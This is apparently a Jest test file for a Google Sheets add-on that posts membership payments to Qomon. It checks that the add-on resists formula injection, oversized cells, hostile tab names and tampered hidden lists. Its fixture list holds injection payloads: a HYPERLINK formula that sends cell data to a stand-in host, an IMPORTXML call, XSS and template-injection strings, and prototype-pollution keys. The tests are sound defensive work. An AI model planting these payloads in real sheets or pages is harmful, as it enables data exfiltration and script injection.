import { describe, expect, test } from '@jest/globals';
import { addColumns, choose, PAYMENT } from '../support/rows';
import { Session } from '../support/session';

/** What somebody may call themselves on a public form, or a colleague may call a price. */
const TEXTS = [
  '=HYPERLINK("https://evil.example/?"&A2,"Camille")',
  '=IMPORTXML("https://evil.example","//a")',
  '+33 6 39 98 12 34',
  '-2+3',
  '@here',
  '\t=1+1',
  "'=1+1",
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  'line one\n=1+1',
  '\u202Eevil',
];

/** Every formula anywhere in the spreadsheet, of hidden tabs too. */
function formulas({ google: { workbook } }: Session): string[] {
  return workbook
    .sheets()
    .flatMap(({ name }) => workbook.formulas(name).flat())
    .filter((formula) => formula !== '');
}

/** A number for each text. */
const ID = (index: number): number => 900_001 + index;

describe('somebody who calls a thing by a formula, or by a script', () => {
  test('gets no formula into the sheet by the name of a payer', () => {
    const session = Session.ready();
    const [model] = session.qomon.space.state.contacts;
    if (!model) throw new Error('The sample space has no contact');
    TEXTS.forEach((text, index) => {
      const mail = `payer${index}@example.org`;
      session.qomon.space.add('contacts', {
        ...model,
        id: ID(index),
        firstname: text,
        surname: text,
        mail,
      });
    });
    session.type(
      TEXTS.map((_, index) => ({
        ...PAYMENT,
        'Payer ID': '',
        'Payer email': `payer${index}@example.org`,
      })),
    );
    choose(session, 'checkRows', `2:${TEXTS.length + 1}`);
    expect(session.column('Payer ID')).toEqual(TEXTS.map((_, index) => ID(index)));
    expect(session.column('Payer name').map((name) => typeof name)).toEqual(
      TEXTS.map(() => 'string'),
    );
    expect(formulas(session)).toEqual([]);
  });

  test('gets no formula into the sheet by the name of a price, a status or a campaign', () => {
    const session = Session.ready();
    const { space } = session.qomon;
    const [price] = space.state.membershipPrices;
    const [status] = space.state.statuses;
    const [campaign] = space.state.codeCampaigns;
    if (!price || !status || !campaign) throw new Error('The sample space has no lists');
    TEXTS.forEach((text, index) => {
      space.add('membershipPrices', { ...price, id: ID(index), name: text });
      space.add('statuses', { ...status, id: ID(index), name: text });
      space.add('codeCampaigns', { ...campaign, id: ID(index), code: text });
    });
    space.changeSettings({ payment_method_kinds: ['CB', ...TEXTS] });
    session.call('refreshLists');
    session.type(TEXTS.map((_, index) => ({ ...PAYMENT, Membership: `#${ID(index)}` })));
    session.send(`2:${TEXTS.length + 1}`);
    expect(session.column('State')).toEqual(TEXTS.map(() => 'Sent'));
    expect(formulas(session)).toEqual([]);
  });

  test('gets it to Qomon as it was typed, and no cell of the row changed by it', () => {
    const session = Session.ready();
    const last = TEXTS.length + 1;
    const range = `${session.at('Comment', 2)}:${session.at('Comment', last)}`;
    session.google.workbook.format('Bundles', range, '@');
    session.type(TEXTS.map(() => PAYMENT));
    session.google.workbook.put(
      'Bundles',
      session.at('Comment', 2),
      TEXTS.map((text) => [text]),
    );
    const run = session.send(`2:${last}`);
    expect(session.column('Comment')).toEqual(TEXTS);
    expect(session.posted(run)).toMatchObject(
      TEXTS.map((text) => ({ data: { transactions: [{ comment: text }] } })),
    );
    expect(formulas(session)).toEqual([]);
  });
});

describe('a formula that an editor has put into a cell', () => {
  test('is read by its value, stays a formula, and is never made by the add-on', () => {
    const session = Session.ready();
    session.type([{ ...PAYMENT, Amount: '' }]);
    const at = session.at('Amount', 2);
    session.google.workbook.type('Bundles', at, '=10*2');
    session.google.workbook.computed('Bundles', at, 20);
    const run = session.send('2');
    expect(session.posted(run)).toMatchObject([{ data: { transactions: [{ amount: 2000 }] } }]);
    expect(formulas(session)).toEqual(['=10*2']);
  });
});

describe('a cell with as much text as a cell holds', () => {
  test('does not keep the other rows from being sent, and is told or sent whole', () => {
    const session = Session.ready();
    session.type([PAYMENT, { ...PAYMENT, Amount: '30' }]);
    const long = 'é'.repeat(50_000);
    session.google.workbook.put('Bundles', session.at('Comment', 2), [[long]]);
    const run = session.send('2:3');
    expect(session.column('State')).toEqual(['Sent', 'Sent']);
    expect(session.posted(run)).toContainEqual(
      expect.objectContaining({
        data: { transactions: [expect.objectContaining({ comment: long })] },
      }),
    );
  });
});

describe('a tab with a hostile header or name', () => {
  test('is left alone, and the rows of the other tabs are sent', () => {
    const session = Session.ready();
    const { workbook } = session.google;
    workbook.addSheet('=1+1 <b>');
    workbook.put('=1+1 <b>', 'A1', [
      ['Payer ID', 'x'.repeat(50_000), '__proto__', 'constructor', 'State', 'toString'],
    ]);
    addColumns(session, ['__proto__', 'constructor', 'toString']);
    session.type([PAYMENT]);
    session.send('2');
    expect(session.column('State')).toEqual(['Sent']);
    expect(formulas(session)).toEqual([]);
  });
});

describe('an editor who tampers with the lists', () => {
  /** Replaces a text anywhere in the hidden tab. */
  function tamper(session: Session, from: RegExp, to: string): void {
    const { workbook } = session.google;
    const values = workbook.values('Qomon lists');
    const changed = values.map((row) =>
      row.map((cell) => (typeof cell === 'string' ? cell.replace(from, to) : cell)),
    );
    expect(changed).not.toEqual(values);
    workbook.put('Qomon lists', 'A1', changed);
  }

  test('changes no amount that is paid: the dialog and Qomon have what the row says', () => {
    const session = Session.ready();
    tamper(session, /"amount":2000/, '"amount":1');
    session.type([{ ...PAYMENT, Membership: '#10', 'Membership amount': '20' }]);
    const run = session.send('2');
    expect(session.dialogs[0]?.prompt).toContain('20.00 EUR');
    expect(session.dialogs[0]?.prompt).not.toContain('warning');
    expect(session.posted(run)).toMatchObject([{ data: { transactions: [{ amount: 2000 }] } }]);
  });

  test('cannot change the currency', () => {
    const session = Session.ready();
    tamper(session, /"currency":"eur"/, '"currency":"usd"');
    session.answer = () => 'CANCEL';
    session.type([PAYMENT]);
    session.send('2');
    expect(session.dialogs[0]?.prompt).toContain('20.00 EUR');
    expect(session.qomon.ledger.bundles).toEqual([]);
  });

  test.each([
    ['what is no JSON', /\{/, '{{'],
    ['another shape', /"id":/, '"__proto__":'],
    ['a formula', /^\{.*$/, '=1+1'],
  ])('gets them fetched again by %s', (_, from, to) => {
    const session = Session.ready();
    tamper(session, from, to);
    session.type([{ ...PAYMENT, Membership: '#10' }]);
    const run = session.send('2');
    expect(session.posted(run)).toMatchObject([
      { data: { memberships: [{ membership_price_id: 10, amount: 2000 }] } },
    ]);
    expect(session.cell('State', 2)).toBe('Sent');
  });
});
